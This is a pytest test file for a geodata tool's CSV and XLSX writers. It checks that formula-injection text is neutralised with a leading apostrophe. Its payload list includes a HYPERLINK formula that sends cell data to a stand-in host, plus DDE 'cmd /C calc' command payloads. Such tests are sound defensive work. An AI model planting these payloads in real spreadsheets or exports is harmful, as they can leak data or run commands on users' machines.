"""Formula injection (issue 13): data text is never a live formula in a CSV or XLSX we write.

The expected cells follow OWASP's CSV-injection guidance: a text cell starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe; numbers (also text
that is a plain number, such as ``-7.1603``) are left as they are.
"""

from __future__ import annotations

import zipfile

import numpy as np
import pandas as pd
import pytest
from _ingest_fixtures import point, write_csv
from click.testing import CliRunner
from openpyxl import load_workbook

from parsc_geo.cli.main import cli
from parsc_geo.io.tables import is_formula_like, neutralise_cell, neutralise_frame
from parsc_geo.io.writers import write_quarantine, write_table

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert is_formula_like(text)
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-7.1603", "-7,1603", "+51", "1e-5", "-0.5", "ROBO", "", "a=b"])
def test_plain_numbers_and_ordinary_text_are_unchanged(value):
    assert neutralise_cell(value) == value


def test_numbers_keep_their_type():
    frame = pd.DataFrame(
        {"n": [-3, 4], "x": [-7.16, np.nan], "t": ["=1+1", "-7.16"], "b": [True, False]}
    )
    out = neutralise_frame(frame)
    assert out["n"].tolist() == [-3, 4] and out["n"].dtype == frame["n"].dtype
    assert out["x"].iloc[0] == -7.16 and np.isnan(out["x"].iloc[1])
    assert out["t"].tolist() == ["'=1+1", "-7.16"]
    assert out["b"].tolist() == [True, False]
    assert frame["t"].tolist() == ["=1+1", "-7.16"]  # the input is not modified


def test_quarantine_csv_of_ingest_has_no_live_formula(tmp_path):
    header = ["ID", "FECHA", "MODALIDAD", "LATITUD", "LONGITUD", "DESCRIPCION"]
    lat, lon = point(0)
    # each payload in the date column: quarantined as unparseable_date with the payload as value
    data = [[f"D{i}", p, p, lat, lon, p] for i, p in enumerate(PAYLOADS)]
    data.append(["N1", "05/03/2020", "HURTO", "-7,1603", "abc", "-5"])  # unparseable coordinates
    data.append(["OK", "05/03/2020", "HURTO", lat, lon, "=HYPERLINK(1)"])
    path = write_csv(tmp_path / "=inyeccion.csv", header, data, sep=";")
    report = tmp_path / "r.json"
    res = CliRunner().invoke(
        cli,
        ["-q", "ingest", str(path), "-w", str(tmp_path / "w.gpkg"), "--report", str(report)],
        catch_exceptions=False,
    )
    assert res.exit_code == 0, res.output
    q = pd.read_csv(
        tmp_path / "r_cuarentena.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False
    )
    assert len(q) == len(PAYLOADS) + 1
    for column in q.columns:
        for cell in q[column]:
            assert not is_formula_like(cell), (column, cell)
    # the source name starts with "=": the message cells carry the apostrophe
    assert q["Archivo"].iloc[0] == "'=inyeccion.csv"
    assert q["Mensaje"].iloc[0].startswith("'=inyeccion.csv, fila 1")
    dates = q[q["Código del motivo"] == "unparseable_date"]
    assert dates["Valor"].tolist() == ["'" + p.strip() for p in PAYLOADS]
    # "-7,1603 / abc" is text that Excel would compute (-7.1603 divided by a name): neutralised
    assert q["Valor"].iloc[-1] == "'-7,1603 / abc"


def test_quarantine_writer_keeps_plain_numbers(tmp_path):
    quarantine = pd.DataFrame(
        {
            "source": ["a.csv", "a.csv"],
            "source_row": [3, 4],
            "reason": ["unparseable_coordinates", "outside_study_area"],
            "field": ["LATITUD", "coordenadas"],
            "value": ["-7.1603", "@SUM(A1)"],
            "message": ["x", "y"],
            "raw": ["{}", "{}"],
        }
    )
    out = write_quarantine(quarantine, tmp_path / "q.csv")
    back = pd.read_csv(out, encoding="utf-8-sig", dtype=str)
    assert back["Valor"].tolist() == ["-7.1603", "'@SUM(A1)"]
    assert back["Fila"].tolist() == ["3", "4"]
    # the headers people read are Spanish
    assert list(back.columns) == [
        "Archivo",
        "Fila",
        "Código del motivo",
        "Campo",
        "Valor",
        "Mensaje",
        "Fila original",
    ]


def test_xlsx_tables_hold_text_not_formulas(tmp_path):
    table = pd.DataFrame(
        {"Subsector": PAYLOADS[:4], "Incidentes": [-1, 2, 3, 4], "Daño": [-0.5, 1.5, 2, 3]}
    )
    path = write_table(table, tmp_path / "t.xlsx", title="=TITULO()")
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet  # no formula element anywhere
    ws = load_workbook(path).active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0][0] == "=TITULO()"  # shown verbatim, as text
    assert [r[0] for r in values[2:]] == PAYLOADS[:4]
    assert [r[1] for r in values[2:]] == [-1, 2, 3, 4]
    assert [r[2] for r in values[2:]] == [-0.5, 1.5, 2, 3]
    cell = ws.cell(row=3, column=1)
    assert cell.data_type == "s" and cell.quotePrefix
    csv_path = write_table(table, tmp_path / "t.csv")
    back = pd.read_csv(csv_path, encoding="utf-8-sig")
    assert back["Subsector"].tolist() == ["'" + p for p in PAYLOADS[:4]]
    assert back["Incidentes"].tolist() == [-1, 2, 3, 4]
